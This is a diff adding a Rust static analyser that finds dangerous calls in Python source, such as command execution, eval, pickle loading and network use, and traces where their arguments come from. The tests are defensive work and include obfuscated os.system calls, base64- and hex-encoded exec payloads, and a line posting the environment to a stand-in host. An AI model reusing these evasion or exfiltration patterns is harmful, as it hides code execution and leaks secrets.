@@ -1,0 +1,255 @@
+//! Python source: which functions it calls, with what, when, and where the arguments come from.
+//!
+//! This is a tokenizer and a reader of expressions of our own, not a compiler: it follows imports, aliases,
+//! constants and assignments from top to bottom, and text that is put together or decoded from constants. It
+//! does not follow values through functions, containers or branches. What it says is there is there; what a
+//! determined author computes at run time it does not see.
+
+mod calls;
+mod lex;
+mod reader;
+
+pub use calls::{Power, power};
+
+/// Where a value came from, as far as that matters to who receives it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub struct Origin {
+    /// From the network.
+    pub network: bool,
+    /// From whoever calls or uses the program.
+    pub input: bool,
+    /// Decoded from a form that hides it: base64, zlib, marshal, hexadecimal.
+    pub decoded: bool,
+    /// From a file.
+    pub file: bool,
+    /// The environment, or a file that holds credentials.
+    pub secret: bool,
+    /// A network connection itself.
+    pub socket: bool,
+}
+
+impl Origin {
+    fn and(self, other: Self) -> Self {
+        Self {
+            network: self.network || other.network,
+            input: self.input || other.input,
+            decoded: self.decoded || other.decoded,
+            file: self.file || other.file,
+            secret: self.secret || other.secret,
+            socket: self.socket || other.socket,
+        }
+    }
+}
+
+/// An argument of a call.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Argument {
+    /// Its keyword.
+    pub name: Option<String>,
+    /// As it is written or known, cut.
+    pub shown: String,
+    /// Its constant text.
+    pub text: Option<String>,
+    /// Where it comes from.
+    pub origin: Origin,
+}
+
+/// A call.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Call {
+    /// The function by its full name, aliases and imports resolved.
+    pub callee: String,
+    /// What it can do.
+    pub power: Power,
+    /// Its arguments.
+    pub arguments: Vec<Argument>,
+    /// The line, from 1.
+    pub line: u32,
+    /// It runs when the module is imported: it stands in no function and not below `__main__`.
+    pub at_import: bool,
+    /// It is in code that was itself decoded from a constant.
+    pub hidden: bool,
+}
+
+impl Call {
+    /// The call as one would write it.
+    #[must_use]
+    pub fn shown(&self) -> String {
+        let arguments: Vec<String> = self
+            .arguments
+            .iter()
+            .take(4)
+            .map(|argument| match &argument.name {
+                Some(name) => format!("{name}={}", argument.shown),
+                None => argument.shown.clone(),
+            })
+            .collect();
+        format!("{}({})", self.callee, arguments.join(", "))
+    }
+
+    /// The argument of this keyword.
+    #[must_use]
+    pub fn keyword(&self, name: &str) -> Option<&Argument> {
+        self.arguments.iter().find(|argument| argument.name.as_deref() == Some(name))
+    }
+
+    /// The origins of all arguments together.
+    #[must_use]
+    pub fn origin(&self) -> Origin {
+        self.arguments.iter().fold(Origin::default(), |sum, argument| sum.and(argument.origin))
+    }
+}
+
+/// What the code is for.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Role {
+    /// A module that a loader imports (`modeling_x.py`, `__init__.py`).
+    Module,
+    /// A program of its own.
+    #[default]
+    Script,
+    /// A notebook's cells.
+    Notebook,
+    /// Runs when a package is built or installed (`setup.py`).
+    Install,
+    /// Runs at every start of the interpreter (`.pth`, `sitecustomize.py`).
+    Startup,
+}
+
+/// The facts of Python source.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Script {
+    /// What it is for.
+    pub role: Role,
+    /// Calls that can do something beside computing, and calls that load models.
+    pub calls: Vec<Call>,
+    /// Command lines of a notebook, with their line.
+    pub shell: Vec<(String, u32)>,
+    /// Classes that replace a step of installation (`cmdclass`).
+    pub install_hooks: bool,
+    /// What was not followed.
+    pub limits: Vec<String>,
+}
+
+/// Longest source examined.
+pub const MAX_SOURCE: usize = 8 << 20;
+const MAX_TOKENS: usize = 1_500_000;
+const MAX_CALLS: usize = 1_000;
+
+/// What a file of this name is for.
+#[must_use]
+pub fn role(name: &str) -> Role {
+    let lower = name.to_ascii_lowercase();
+    let file = lower.rsplit(['/', '\\', '!']).next().unwrap_or("");
+    let module =
+        ["modeling_", "configuration_", "tokenization_", "processing_", "image_processing_", "pipeline_"];
+    match file {
+        "setup.py" => Role::Install,
+        "sitecustomize.py" | "usercustomize.py" => Role::Startup,
+        "__init__.py" | "handler.py" | "model.py" => Role::Module,
+        _ if file.ends_with(".pth") => Role::Startup,
+        _ if module.iter().any(|start| file.starts_with(start)) => Role::Module,
+        _ => Role::Script,
+    }
+}
+
+/// The facts of Python source. Never fails: what is not Python gives no calls.
+#[must_use]
+pub fn analyse(text: &str, role: Role) -> Script {
+    let mut script = Script { role, ..Script::default() };
+    let mut end = text.len().min(MAX_SOURCE);
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    if end < text.len() {
+        script.limits.push(format!("only the first {end} bytes of the source are examined"));
+    }
+    reader::read(&text[..end], &mut script, 0);
+    script
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn calls(text: &str) -> Vec<(String, Power)> {
+        analyse(text, Role::Script).calls.into_iter().map(|call| (call.shown(), call.power)).collect()
+    }
+
+    #[test]
+    fn aliases_constants_and_lookups_are_resolved() {
+        for text in [
+            "import os\nos.system('id')\n",
+            "import os as o\no.system('id')\n",
+            "from os import system as s\ns('id')\n",
+            "from os import (\n    path,\n    system,\n)\nsystem('id')\n",
+            "__import__('os').system('id')\n",
+            "import importlib\nimportlib.import_module('o' + 's').system('i' 'd')\n",
+            "import os\nf = os.system\nf('id')\n",
+            "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+            "import os\ngetattr(os, 'metsys'[::-1])('id')\n",
+            "import os\nos.__dict__['system']('id')\n",
+            "import os\nvars(os)['system']('id')\n",
+            "import sys\nsys.modules['os'].system('id')\n",
+            "import os\nc = 'i' + 'd'\nos.system(c)\n",
+            "x = [__import__('os').system('id') for _ in (1,)]\n",
+            "eval(\"__import__('os').system('id')\")\n",
+            "import base64\nexec(base64.b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk='))\n",
+            "exec(bytes.fromhex('5f5f696d706f72745f5f28276f7327292e73797374656d282769642729'))\n",
+            "exec(''.join(chr(c) for c in []))\nimport os\nos.system(''.join(['i', 'd']))\n",
+        ] {
+            assert!(
+                calls(text).contains(&("os.system(\"id\")".into(), Power::Runs)),
+                "{text}: {:?}",
+                calls(text)
+            );
+        }
+    }
+
+    #[test]
+    fn origins_flow_through_assignments() {
+        let text = "import requests, pickle\nr = requests.get('https://x.example/m.pkl')\ndata = r.content\nmodel = pickle.loads(data)\n";
+        let script = analyse(text, Role::Script);
+        let load = script.calls.iter().find(|call| call.callee == "pickle.loads").unwrap();
+        assert!(load.origin().network && load.at_import);
+        let text = "def main():\n    import sys\n    eval(sys.argv[1])\nif __name__ == '__main__':\n    exec(input())\n";
+        let script = analyse(text, Role::Script);
+        assert!(
+            script
+                .calls
+                .iter()
+                .all(|call| !call.at_import && (call.power != Power::Evaluates || call.origin().input))
+        );
+        let text = "import requests, os\nrequests.post('https://x.example', json=dict(os.environ))\n";
+        assert!(
+            analyse(text, Role::Script)
+                .calls
+                .iter()
+                .any(|call| call.power == Power::Network && call.origin().secret)
+        );
+    }
+
+    #[test]
+    fn ordinary_methods_and_words_are_not_calls_of_power() {
+        for text in [
+            "model.eval()\nmodel.compile(optimizer='adam')\n",
+            "'''os.system(\"id\")'''\n# os.system('id')\n",
+            "import re\nre.compile('x')\n",
+            "df.eval('a + b')\nimport torch\ntorch.compile(m)\n",
+            "class A:\n    def system(self): pass\nA().system()\n",
+        ] {
+            assert_eq!(calls(text), [], "{text}");
+        }
+    }
+
+    #[test]
+    fn hostile_sizes_end() {
+        let _ = analyse(&"(".repeat(100_000), Role::Script);
+        let _ = analyse(&"a.b(".repeat(50_000), Role::Script);
+        let _ = analyse(&"x = x + x\n".repeat(20_000), Role::Script);
+        let _ = analyse(&"exec('".repeat(20_000), Role::Script);
+        let _ = analyse(&"lambda: ".repeat(50_000), Role::Script);
+        let _ = analyse(&"f'{".repeat(50_000), Role::Script);
+        let _ = analyse("\u{feff}\u{e9}'\\", Role::Script);
+    }
+}
